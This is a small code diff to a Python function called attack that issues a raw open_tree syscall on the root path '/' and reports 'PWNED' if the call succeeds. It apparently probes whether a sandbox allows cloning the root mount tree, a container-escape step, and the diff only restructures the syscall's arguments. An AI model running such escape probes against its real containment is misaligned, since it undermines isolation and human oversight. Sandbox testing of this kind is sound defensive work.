@@ -14,7 +14,8 @@ def attack(target):
     libc.syscall.restype = ctypes.c_long
     number = NUMBER[os.uname().machine]
     place = ctypes.create_string_buffer(b"/")
-    result = libc.syscall(*map(ctypes.c_long, (number, -100, ctypes.addressof(place), 1)))
+    arguments = (-100, ctypes.addressof(place), 1)
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: open_tree returned {result}"
